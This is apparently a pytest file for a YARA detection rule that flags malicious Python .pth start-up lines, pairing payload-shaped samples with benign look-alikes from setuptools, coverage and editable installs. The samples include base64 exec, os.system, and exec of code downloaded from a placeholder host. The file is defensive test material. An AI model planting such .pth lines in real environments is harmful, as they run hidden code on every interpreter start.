"""rules/yara/pth/pth.yar: .pth import lines that decode, download or run something.

Benign look-alikes are the shapes real site-packages .pth files have
(setuptools' distutils shim, coverage/pytest-cov start-up hooks, namespace
packages, editable installs, plain paths).
"""

from __future__ import annotations

import pytest
from yara_builders import params

POSITIVE = {
    "pth_import_line_payload": [
        ("exec-base64", lambda: "import base64;exec(base64.b64decode('cHJpbnQoImhpIik='))\n"),
        ("paths-then-system", lambda: "/opt/demo/lib\n./vendor\nimport os; os.system('echo hi >/dev/null')\n"),
        ("urlopen", lambda: "import urllib.request;exec(urllib.request.urlopen('https://example.invalid/p').read())\n"),
        ("subprocess-popen", lambda: "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'pass'])\n"),
    ],
}

BENIGN = {
    "pth_import_line_payload": [
        ("distutils-precedence", lambda: (
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
            "enabled and __import__('_distutils_hack').add_shim(); \n")),
        ("pytest-cov-hook", lambda: (
            "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  "
            "from pytest_cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n")),
        ("coverage-hook", lambda: "import coverage; coverage.process_startup()\n"),
        ("namespace-package", lambda: (
            "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
            "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));"
            "importlib = has_mfs and __import__('importlib.util')\n")),
        ("editable-install", lambda: "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n"),
        ("paths-only", lambda: "/opt/demo/lib\n../shared\n"),
        ("module-with-defs", lambda: (
            "import os; os.system('clear')\n\ndef main():\n    print('menu')\n")),
    ],
}


@pytest.mark.parametrize(("rule", "build"), params(POSITIVE))
def test_fires(fired, rule, build):
    assert rule in fired(build())


@pytest.mark.parametrize(("rule", "build"), params(BENIGN))
def test_quiet(fired, rule, build):
    assert rule not in fired(build())
